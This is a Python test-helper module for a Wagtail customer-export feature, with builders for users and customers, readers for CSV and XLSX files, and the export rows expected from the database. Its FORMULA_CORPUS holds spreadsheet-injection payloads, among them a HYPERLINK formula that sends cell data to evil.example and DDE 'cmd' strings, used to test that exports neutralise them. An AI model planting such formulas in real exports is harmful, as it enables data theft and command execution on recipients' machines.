"""Helpers shared by the export tests: users, data, reading files back, and the rows expected from the database."""

import csv
import io
import re
from decimal import ROUND_HALF_UP, Decimal

import openpyxl
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission
from django.utils import timezone

from tests.factories import order_data
from wagtail_customers.columns import COLUMNS, COLUMNS_BY_NAME
from wagtail_customers.models import AccessGrant, CustomerScore, ListingPreference
from wagtail_customers.services.ingestion import record_orders

ALL_COLUMNS = [column.name for column in COLUMNS]
#: Columns holding amounts in the seller account's currency: the first one is followed by the currency.
MONEY_COLUMNS = ("amount_spent", "discount_total", "average_order_value", "expected_spend")
#: Headings of the columns an export adds after the first amount column (they are not listing columns).
ADDED_LABELS = {"currency": "Currency", "unconverted_orders": "Orders without exchange rate"}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")
START_URL = "/admin/customers/exports/start/"

#: Text a spreadsheet would run, in the places an export shows text.
FORMULA_CORPUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+41 22 123 45 67",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "=1+1",
]


def exporter(username, *accounts, columns=None, **grant_flags):
    """A Wagtail admin user who may view and export ``accounts`` (nothing else)."""
    user = get_user_model().objects.create_user(username, f"{username}@example.com", "pw")
    user.user_permissions.add(Permission.objects.get(content_type__app_label="wagtailadmin", codename="access_admin"))
    for account in accounts:
        # Sees the personal data it exports unless a test says otherwise (tests/test_personal_data_masking.py).
        flags = {"can_view": True, "can_export": True, "can_see_personal_data": True, **grant_flags}
        AccessGrant.objects.create(user=user, account=account, **flags)
    if columns is not None:
        ListingPreference.objects.create(user=user, columns=list(columns))
    return user


def make_customers(account, count, *, prefix="c", start=0, **extra):
    """``count`` customers with one order each, distinct amounts (so every tab has a strict order)."""
    orders = [
        order_data(
            f"{prefix}{start + i}",
            email=f"{prefix}{start + i}@example.com",
            name=f"Customer {prefix}{start + i}",
            lines=((1 + i % 3, f"{10 + i}.25"),),
            day=i % 200,
            **extra,
        )
        for i in range(count)
    ]
    record_orders(account, orders)


def neutralised(text):
    return "'" + text if text and text[0] in TRIGGERS else text


def read_csv(content):
    """Rows of a CSV file (bytes or text), the byte order mark removed."""
    if isinstance(content, bytes):
        content = content.decode("utf-8")
    assert content.startswith("\ufeff"), "CSV files start with a UTF-8 byte order mark"
    return list(csv.reader(io.StringIO(content[1:], newline="")))


def read_xlsx(content):
    """Cell values of the first sheet (openpyxl reads numbers as numbers, dates as datetimes)."""
    workbook = openpyxl.load_workbook(io.BytesIO(content), read_only=True)
    sheet = workbook.worksheets[0]
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    workbook.close()
    return rows


def response_bytes(response):
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def exported_columns(columns):
    """What an export writes for the user's ``columns``: the same, with the currency and the count of orders
    without exchange rate after the first amount."""
    for index, name in enumerate(columns):
        if name in MONEY_COLUMNS:
            return [*columns[: index + 1], *ADDED_LABELS, *columns[index + 1 :]]
    return list(columns)


#: Headings that say the unit where the listing's cell shows it ("33.3 %").
PERCENT_LABELS = {"return_rate": "Return rate (%)", "probability_active": "Probability active (%)"}


def export_headings(columns):
    """The heading row an export writes for the user's ``columns``."""
    return [
        ADDED_LABELS.get(name) or PERCENT_LABELS.get(name) or str(COLUMNS_BY_NAME[name].label)
        for name in exported_columns(columns)
    ]


def insight_cells(customer, now=None):
    """The buyer-insight columns' values for ``customer``, worked out here from its statistics and scores; the days
    since the last order counted to ``now`` (default: this moment)."""
    now = now or timezone.now()
    score = CustomerScore.objects.filter(customer=customer).first()
    converted = customer.orders_count - customer.unconverted_orders
    probability = score.probability_active if score else None
    return {
        # The database rounds half away from zero (2.345 -> 2.35).
        "average_order_value": (
            (customer.amount_spent / converted).quantize(Decimal("0.01"), ROUND_HALF_UP) if converted else None
        ),
        "repeat_buyer": "Yes" if customer.orders_count >= 2 else "No",
        "days_since_last_order": (now - customer.last_order_at).days if customer.last_order_at else None,
        "return_rate": (
            (Decimal(customer.returned_units) * 100 / customer.units).quantize(Decimal("0.1"), ROUND_HALF_UP)
            if customer.units
            else None
        ),
        "rfm_group": score.get_rfm_group_display() if score else "",
        "rfm_score": int(score.rfm) if score else None,
        "expected_orders": score.expected_orders if score else None,
        "expected_spend": score.expected_spend if score else None,
        "probability_active": None if probability is None else (probability * 100).quantize(Decimal("0.01")),
    }


def expected_from_start_or_end(started, expected_at):
    """``expected_at(now)`` counted from the export's start and from now (its end): the file counts the days since
    each last order from one moment during the export, and a last order at 12:00 is a day further at 12:00."""
    return [expected_at(started), expected_at(timezone.now())]


def expected_cells(customer, columns, now=None):
    """Each column's value for ``customer``, as the export should render it (text neutralised, numbers native);
    ``now`` as in ``insight_cells``."""
    local_last = timezone.localtime(customer.last_order_at).replace(tzinfo=None) if customer.last_order_at else None
    values = {
        "name": customer.name,
        "email": customer.email,
        "address": ", ".join(part for part in (customer.address_line1, customer.address_line2) if part),
        "postal_code": customer.postal_code,
        "city": customer.city,
        "state": customer.state,
        "country": customer.country,
        "orders_count": customer.orders_count,
        "units": customer.units,
        "amount_spent": customer.amount_spent,
        "discount_total": customer.discount_total,
        "promo_codes_used": customer.promo_codes_used,
        "negative_feedbacks": customer.negative_feedbacks,
        "returned_units": customer.returned_units,
        "account": customer.account.name,
        "last_order_at": local_last,
        "currency": customer.account.currency,
        "unconverted_orders": customer.unconverted_orders,
        **insight_cells(customer, now),
    }
    return [neutralised(values[name]) if isinstance(values[name], str) else values[name] for name in columns]


def as_csv_text(value):
    if value is None:
        return ""
    if hasattr(value, "isoformat"):
        return value.isoformat(sep=" ", timespec="seconds")
    return str(value)


def as_xlsx_value(value):
    """What openpyxl reads back: empty text is an empty cell, decimals are floats."""
    if value == "":
        return None
    if isinstance(value, Decimal):
        return float(value)
    return value


def decode_xlsx_escapes(value):
    """Text as Excel shows it: XlsxWriter stores control characters as ``_xHHHH_`` (OOXML's escape)."""
    if not isinstance(value, str):
        return value
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda match: chr(int(match.group(1), 16)), value)


def file_of(job):
    """The finished job's file, then the job removed (so the same request makes a new job next time)."""
    from wagtail_customers.models import JobState
    from wagtail_customers.storage import private_storage

    job.refresh_from_db()
    assert job.state == JobState.DONE, job.error
    with private_storage.open(job.file.name, "rb") as stream:
        content = stream.read()
    private_storage.delete(job.file.name)
    job.delete()
    return content
